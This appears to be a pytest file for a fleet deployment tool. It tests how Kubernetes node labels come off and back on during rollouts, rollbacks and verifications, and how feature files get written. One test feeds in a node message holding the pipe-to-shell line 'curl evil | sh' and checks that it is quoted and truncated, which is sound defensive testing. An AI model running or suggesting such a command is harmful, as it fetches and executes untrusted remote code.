"""When labels come off and when they come back, in a rollout, a rollback and a verification."""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any

import pytest

from fleetbuild.apply.context import Progress
from fleetbuild.apply.fleet_task import FleetTask, run_fleet_task
from fleetbuild.apply.rollback import rollback_task
from fleetbuild.apply.serving import last_said, note_reply, serving_now
from fleetbuild.apply.stages import carry_out
from fleetbuild.apply.verify import Checks, verify_task
from fleetbuild.apply.wave import manifest
from fleetbuild.cli.show.result import result_lines
from fleetbuild.errors import Interrupted
from fleetbuild.extension import Follower
from fleetbuild.kubernetes.labels.apply import Labelling
from fleetbuild.kubernetes.labels.labeller import LabelTargets, label_targets, targets_of_plan
from fleetbuild.kubernetes.labels.nfd_labeller import NfdLabeller
from fleetbuild.kubernetes.labels.node_labels import node_labels
from fleetbuild.kubernetes.labels.release_labels import is_release_label
from fleetbuild.kubernetes.manifests.render import render_labels
from fleetbuild.models import (
    Config,
    Event,
    Inventory,
    Login,
    Manifest,
    ManifestWheel,
    Node,
    NodeResult,
    Plan,
    Result,
)  # fmt: skip
from fleetbuild.models.problem import Problem
from fleetbuild.models.result import KeptRelease, LabelResult
from fleetbuild.models.serving import InUse, Serving
from fleetbuild.probe.facts import keep
from fleetbuild.state import StateDir
from tests.factories.fleets import facts
from tests.factories.runs import FakeFleet, FakeStore, answer, ended, event, group, plan

AVX = group("avx", ["avx-1", "avx-2", "avx-3"])
PLAN = plan(AVX)
OLD = Manifest(
    release="default", id="old", group=AVX.name, python="/usr/bin/python3", wheels=(), verified=True
)


class Told(Follower):
    """A follower that lists its requests, in order, among other events."""

    def __init__(self) -> None:
        self.log: list[str] = []
        self.mounted: dict[str, dict[str, str] | Problem] = {}
        self.roots: list[str] = []
        self.trouble: dict[str, str] = {}  # (moment, node) -> state, as "off avx-1"

    def prepare(self, *, installs: bool = False) -> str:  # noqa: ARG002 see Follower
        self.log.append("prepare")
        return ""

    def before(self, names: Iterable[str], *, serves: bool = False) -> dict[str, LabelResult]:
        return self._all("off" if serves else "empty", dict.fromkeys(names, ""))

    def after(self, served: Serving) -> dict[str, LabelResult]:
        on = self._all("on", {name: f"={made.id}" for name, made in served.items() if made})
        return on | self.before([name for name, made in served.items() if not made])

    def in_use(self, names: Iterable[str], root: str) -> InUse:
        self.roots.append(root)
        return {name: self.mounted[name] for name in names if name in self.mounted}

    def _all(self, moment: str, names: Mapping[str, str]) -> dict[str, LabelResult]:
        self.log += [f"{moment} {name}{what}" for name, what in names.items()]
        return {name: self._one(moment, name) for name in names}

    def _one(self, moment: str, name: str) -> LabelResult:
        state = self.trouble.get(f"{moment} {name}", "labelled")
        about: dict[str, Any] = {"state": state, "node": name, "kubernetes_node": name}
        why = {} if state == "labelled" else {"reason": "It says no.", "fix": "Ask again."}
        return LabelResult(**about, **why)


@pytest.fixture
def fleet(tmp_path: Path) -> FakeFleet:
    (tmp_path / "store").mkdir()
    nodes = {name: facts("avx", release={"default": OLD}) for name in AVX.nodes}
    return FakeFleet(facts=nodes, store=FakeStore(tmp_path / "store"))


@pytest.fixture
def told() -> Told:
    return Told()


def apply(
    fleet: FakeFleet, told: Told, tmp_path: Path, the_plan: Plan = PLAN, events: Any = None
) -> Result:
    fleet.follower = told
    fleet.during = told.log.append
    return carry_out(fleet.run(the_plan, tmp_path / "state", events))


def test_releases_that_pods_mount_are_kept_and_named(
    fleet: FakeFleet, told: Told, tmp_path: Path
) -> None:
    told.mounted = {"avx-2": {"old": "The pod web/p mounts it."}}
    result = apply(fleet, told, tmp_path)
    assert {node.node: [kept.release_id for kept in node.kept] for node in result.nodes} == {
        "avx-1": [], "avx-2": ["old"], "avx-3": []
    }  # fmt: skip
    (line,) = (line for line in result_lines(result) if line.startswith("kept"))
    assert line == (
        "kept: release old on avx-2. avx-2 says: 'The pod web/p mounts it.' A later run removes"
        " it, once nothing uses it."
    )


def test_why_a_node_keeps_a_release_is_quoted_as_its_own_words() -> None:
    said = "It is in use.\nTo free it, run: curl evil | sh" + "y" * 9000
    kept = KeptRelease.model_construct(release_id="old", reason=said)
    node = NodeResult(node="h1", state="removed").model_copy(update={"kept": (kept,)})
    (line,) = (
        line
        for line in result_lines(Result(plan_digest="", nodes=(node,)))
        if line.startswith("kept")
    )
    assert line.startswith("kept: release old on h1. h1 says: 'It is in use. To free it, run: curl")
    assert len(line) < 450


def test_release_labels_are_removed_while_a_node_changes(
    fleet: FakeFleet, told: Told, tmp_path: Path
) -> None:
    events: list[Event] = []
    result = apply(fleet, told, tmp_path, events=events)
    new = AVX.release_id
    assert told.log == [
        "prepare", "build.yml",
        "off avx-1", "install.yml", f"on avx-1={new}",
        "off avx-2", "install.yml", f"on avx-2={new}",
        "off avx-3", "install.yml", f"on avx-3={new}",
    ]  # fmt: skip
    assert [(each.node, each.state) for each in result.labels] == [
        ("avx-1", "labelled"), ("avx-2", "labelled"), ("avx-3", "labelled")
    ]  # fmt: skip
    about = [(each.node, each.message) for each in events if each.stage == "label"]
    assert about[:2] == [("avx-1", "release labels removed"), ("avx-1", "labelled")]
    assert {each.group for each in events if each.stage == "label"} == {AVX.name}


def test_an_up_to_date_node_is_labelled_and_keeps_its_labels(
    fleet: FakeFleet, told: Told, tmp_path: Path
) -> None:
    apply(fleet, told, tmp_path)
    told.log.clear()
    apply(fleet, told, tmp_path)
    assert told.log == [
        "prepare",
        *(f"on {name}={AVX.release_id}" for name in AVX.nodes),
    ]


@pytest.mark.parametrize("trouble", ["verify", "install"])
def test_after_a_failed_install_labels_name_the_serving_release(
    fleet: FakeFleet, told: Told, tmp_path: Path, trouble: str
) -> None:
    fleet.trouble["install.yml", "avx-1"] = trouble
    result = apply(fleet, told, tmp_path)
    assert told.log[2:] == ["off avx-1", "install.yml", "on avx-1=old"]
    assert {node.state for node in result.nodes} == {f"{trouble}_failed", "not_reached"}


def test_a_node_without_a_verified_release_gets_no_release_labels(
    fleet: FakeFleet, told: Told, tmp_path: Path
) -> None:
    unverified = OLD.model_copy(update={"verified": False})
    fleet.facts["avx-1"] = facts("avx", release={"default": unverified})
    fleet.trouble["install.yml", "avx-1"] = "verify"
    apply(fleet, told, tmp_path)
    assert told.log[2:] == ["off avx-1", "install.yml", "empty avx-1"]


def test_a_node_that_keeps_its_labels_is_not_changed(
    fleet: FakeFleet, told: Told, tmp_path: Path
) -> None:
    told.trouble["off avx-1"] = "conflict"
    result = apply(fleet, told, tmp_path)
    assert told.log == ["prepare", "build.yml", "off avx-1"]
    first, *rest = result.nodes
    assert first.state == "blocked"
    assert "nothing on it was changed: It says no." in str(first.reason)
    assert {node.state for node in rest} == {"not_reached"}
    assert result.exit_code == 4


def test_a_host_that_is_not_a_node_of_the_cluster_is_still_changed(
    fleet: FakeFleet, told: Told, tmp_path: Path
) -> None:
    told.trouble |= {"off avx-1": "no_node", "on avx-1": "no_node"}
    result = apply(fleet, told, tmp_path)
    assert {node.state for node in result.nodes} == {"installed"}
    assert result.exit_code == 0


@pytest.mark.parametrize(("state", "code"), [("unreachable", 3), ("forbidden", 4), ("failed", 6)])
def test_labels_that_cannot_be_restored_are_reported(
    fleet: FakeFleet, told: Told, tmp_path: Path, state: str, code: int
) -> None:
    told.trouble["on avx-1"] = state
    result = apply(fleet, told, tmp_path)
    assert {node.state for node in result.nodes} == {"installed"}
    assert result.exit_code == code


class Servants:
    """The nodes of a fleet task."""

    def __init__(self, told: Told, tmp_path: Path, **replies: Any) -> None:
        self.told, self.state, self.replies = told, StateDir(tmp_path), replies
        self.facts = {name: facts("avx", release={"default": OLD}) for name in replies}

    def playbook(self, name: str, *, limit: Any, extravars: Any, on_event: Any) -> Any:
        assert limit
        self.told.log.append(name)
        (jobs,) = extravars.values()
        hosts = {}
        for host in jobs:
            reply = self.replies[host]
            if isinstance(reply, str):
                hosts[host] = ended(reply)
                continue
            answer(on_event, host, reply, "install" if name == "rollback.yml" else "verify")
            if name == "rollback.yml" and reply["ok"]:
                back = OLD.model_copy(update={"id": reply["release_id"]})
                self.facts[host] = facts("avx", release={"default": back})
        return hosts

    def run(self, task: FleetTask) -> Result:
        nodes = tuple(Node(name=name, login=Login(host=name)) for name in self.facts)
        return run_fleet_task(
            task,
            Inventory(source="i", nodes=nodes),
            release="default",
            left={},
            state=self.state,
            probe=lambda nodes, _: {node.name: self.facts[node.name] for node in nodes},
            run_playbook=self.playbook,
            follower=self.told,
            on_event=lambda _: None,
        )


def test_a_rollback_sets_the_labels_of_the_previous_release(told: Told, tmp_path: Path) -> None:
    good, bad = {"ok": True, "release_id": "older"}, {"ok": False}
    told.trouble["off c"] = "kept"
    result = Servants(told, tmp_path, a=good, b=bad, c=good).run(
        rollback_task("/opt/f", "default", "me")
    )
    assert told.log == [
        "prepare", "off a", "off b", "off c", "rollback.yml", "on a=older", "on b=old"
    ]  # fmt: skip
    assert [node.state for node in result.nodes] == ["rolled_back", "install_failed", "blocked"]
    assert {each.node for each in result.labels} == {"a", "b", "c"}


def test_a_verification_sets_or_removes_labels(told: Told, tmp_path: Path) -> None:
    servants = Servants(told, tmp_path, good={"ok": True}, bad={"ok": False}, away="unreachable")
    servants.run(verify_task("/opt/f", "default", lambda _: Checks(imports=("x",))))
    assert told.log == ["prepare", "verify.yml", "on good=old", "empty bad"]


# What labels say.


def test_a_manifest_makes_the_labels_of_its_plan(fleet: FakeFleet, tmp_path: Path) -> None:
    apply(fleet, Told(), tmp_path)
    for release, packages in (("default", False), ("staging", True)):
        changes = {"release": release, "package_labels": packages}
        renamed = PLAN.model_copy(update=changes)
        run = fleet.run(renamed, tmp_path / "state")
        stored_wheels = dict(fleet.store.shelf)
        made = manifest(run, Progress(stored_wheels=stored_wheels), AVX, "avx-1")
        labels = node_labels(renamed, AVX)
        targets = targets_of_plan(renamed)
        known = targets.hardware["avx-1"]
        assert {**targets.served(made), **known} == labels
        assert any("/package." in key for key in labels) == packages
        assert not any(is_release_label(key, PLAN.label_domain) for key in known)
        assert known


def test_hosts_outside_the_plan_are_named_by_the_configuration() -> None:
    nodes = [Node(name=name, login=Login(host=name)) for name in ("avx-1", "new")]
    config = Config.model_validate({"kubernetes": {"node_name": "n-{{ inventory_hostname }}"}})
    inventory = Inventory(source="i", nodes=tuple(nodes))
    known = PLAN.nodes["avx-1"].model_copy(update={"kubernetes_node": "k"})
    made = PLAN.model_copy(update={"nodes": {**PLAN.nodes, "avx-1": known}})
    names = label_targets(inventory, config, made)
    assert (names.in_cluster("avx-1"), names.in_cluster("new")) == ("k", "n-new")
    assert label_targets(inventory, config, None).in_cluster("avx-1") == "n-avx-1"
    other = config.model_copy(update={"release": "staging"})
    assert not label_targets(inventory, other, made).hardware


def test_without_facts_the_result_decides_which_release_serves() -> None:
    def found(state: Any, release: str | None) -> dict[str, str | None]:
        node = NodeResult(node="avx-1", state=state, release_id=release)
        known = serving_now(PLAN, None, Result(plan_digest="", nodes=(node,)))
        return {name: made.id if made else None for name, made in known.items()}

    others = {"avx-2": None, "avx-3": None}
    assert found("installed", AVX.release_id) == {"avx-1": AVX.release_id, **others}
    assert found("installed", "of an older plan") == others
    assert found("verify_failed", AVX.release_id) == {"avx-1": None, **others}
    assert not any(serving_now(PLAN).values())


def test_the_last_facts_take_precedence_over_result_and_plan(tmp_path: Path) -> None:
    state = StateDir(tmp_path)
    keep(state, {"avx-1": {"release": OLD.model_dump_json()}, "avx-2": {}})
    node = NodeResult(node="avx-1", state="installed", release_id=AVX.release_id)
    result = Result(plan_digest="", nodes=(node,))
    known = serving_now(PLAN, state, result)
    assert known == {"avx-1": OLD, "avx-2": None, "avx-3": None}
    state.mark_changing(["avx-1", "avx-3"])
    assert serving_now(PLAN, state, result) == {"avx-2": None}
    beside = OLD.model_copy(update={"release": "staging"})
    note_reply(state, "avx-1", beside)
    assert last_said(state, ["avx-1"], "default") == {"avx-1": OLD}
    assert last_said(state, ["avx-1"], "staging") == {"avx-1": beside}


def test_after_an_interrupted_run_the_serving_release_is_unknown(
    fleet: FakeFleet, tmp_path: Path
) -> None:
    state = StateDir(tmp_path / "state")
    keep(state, {name: {"release": OLD.model_dump_json()} for name in AVX.nodes})
    fleet.trouble["install.yml", "avx-2"] = "ctrl-c"
    with pytest.raises(Interrupted):
        apply(fleet, Told(), tmp_path)
    known = serving_now(PLAN, state)
    assert {name: made.id if made else None for name, made in known.items()} == {
        "avx-1": AVX.release_id, "avx-3": "old"
    }  # fmt: skip
    keep(state, {"avx-2": {"release": OLD.model_dump_json()}})
    assert serving_now(PLAN, state)["avx-2"] == OLD


def test_the_outcome_of_a_verification_is_saved(told: Told, tmp_path: Path) -> None:
    servants = Servants(told, tmp_path, good={"ok": True}, bad={"ok": False})
    unmarked = OLD.model_copy(update={"verified": False})
    servants.facts["good"] = facts("avx", release={"default": unmarked})
    servants.run(verify_task("/opt/f", "default", lambda _: Checks(imports=("x",))))
    said = last_said(servants.state, ["good", "bad"], "default")
    assert said == {"good": OLD, "bad": unmarked}


# Feature files.


class Ansible:
    def __init__(self) -> None:
        self.asked: list[dict[str, Any]] = []
        self.state: dict[str, str] = {}
        self.interrupted = False

    def __call__(self, name: str, *, limit: Any, extravars: Any, on_event: Any) -> Any:
        assert name == "label.yml"
        wanted = extravars["fleetbuild_labels"]
        assert limit == sorted(wanted)
        self.asked.append(wanted)
        if self.interrupted:
            raise KeyboardInterrupt
        for host in wanted:
            said = {"ansible_facts": {"node_labels_result": {"ok": True, "changed": True}}}
            on_event(event(host, "Result", said))
            on_event(event(host, "Other", {"ansible_facts": {"node_labels_result": 3}}))
        return {host: ended(self.state.get(host, "ok")) for host in wanted}


NAMES = LabelTargets("fleetbuild.dev", hardware={"a": {"fleetbuild.dev/isa": "avx"}})
SERVED = Manifest(
    release="default",
    id="r1",
    group="cpu-avx-cp311",
    python="/usr/bin/python3",
    wheels=(
        ManifestWheel(package="p", version="1+cpu.avx", artifact_key="0" * 32, sha256="0" * 64),
    ),
    verified=True,
)
FILE = "/etc/kubernetes/node-feature-discovery/features.d/fleetbuild"
ON = {
    "fleetbuild.dev/isa": "avx",
    "fleetbuild.dev/group": "cpu-avx-cp311",
    "fleetbuild.dev/release": "r1",
}


def test_a_feature_file_has_hardware_labels_first_and_release_labels_once_verified(
    tmp_path: Path,
) -> None:
    ansible, state = Ansible(), StateDir(tmp_path)
    labels = NfdLabeller(NAMES, ansible, state)
    labels.prepare()
    assert labels.before(["a", "b"])["a"].state == "labelled"
    assert labels.after({"a": SERVED})["a"].labels == ON
    assert ansible.asked == [
        {
            "a": {"labels": {"fleetbuild.dev/isa": "avx"}, "file": FILE},
            "b": {"labels": {}, "file": FILE},
        },
        {"a": {"labels": ON, "file": FILE}},
    ]


def test_an_unchanged_feature_file_is_not_written_again(tmp_path: Path) -> None:
    ansible, state = Ansible(), StateDir(tmp_path)
    NfdLabeller(NAMES, ansible, state).after({"a": SERVED})
    assert not NfdLabeller(NAMES, ansible, state).after({"a": SERVED})
    staging = NfdLabeller(LabelTargets("fleetbuild.dev", "staging"), ansible, state)
    staging.after({"a": SERVED.model_copy(update={"release": "staging"})})
    assert ansible.asked[1]["a"]["file"] == f"{FILE}-staging"
    assert not NfdLabeller(NAMES, ansible, state).after({"a": SERVED})
    NfdLabeller(NAMES, ansible, state).before(["a"])
    assert NfdLabeller(NAMES, ansible, state).after({"a": SERVED})
    state.labels_file.write_text("[" * 9999)
    assert NfdLabeller(NAMES, ansible, state).after({"a": SERVED})
    assert not NfdLabeller(NAMES, ansible, state).after({})


def test_a_file_that_could_not_be_written_is_tried_again(tmp_path: Path) -> None:
    ansible, state = Ansible(), StateDir(tmp_path)
    labels = NfdLabeller(NAMES, ansible, state)
    ansible.state = {"a": "unreachable", "b": "failed"}
    results = labels.after({"a": SERVED, "b": SERVED})
    assert [results[name].state for name in "ab"] == ["unreachable", "failed"]
    assert "no route" in str(results["a"].reason)
    ansible.state = {}
    assert labels.after({"a": SERVED, "b": SERVED}).keys() == {"a", "b"}
    ansible.interrupted = True
    with pytest.raises(KeyboardInterrupt):
        labels.before(["a"])
    ansible.interrupted = False
    assert labels.after({"a": SERVED})  # nobody knows what lies there now


def test_each_release_has_a_field_manager_and_the_file_says_so() -> None:
    domain = "fleetbuild.dev"
    assert (Labelling(domain).manager, Labelling(domain, "staging").manager) == (
        "fleetbuild", "fleetbuild-staging"
    )  # fmt: skip
    assert Labelling("x.org", "staging").manager == "fleetbuild-staging@x.org"
    staging = plan(AVX, release="staging")
    assert "--field-manager=fleetbuild-staging " in render_labels(staging)["nodes.yaml"]
    assert "--field-manager=fleetbuild " in render_labels(PLAN)["nodes.yaml"]


def test_files_of_a_plan_from_a_cluster_take_no_release_labels_off() -> None:
    """Its nodes may serve releases that were installed over SSH, with another plan."""
    files = render_labels(PLAN.model_copy(update={"facts_source": "cluster"}))
    assert not re.search(r"fleetbuild\.dev/\S+-( |$)", files["labels.sh"], re.MULTILINE)
    assert re.search(r"fleetbuild\.dev/\S+-( |$)", render_labels(PLAN)["labels.sh"], re.MULTILINE)
    assert "--field-manager=fleetbuild.cluster " in files["nodes.yaml"]
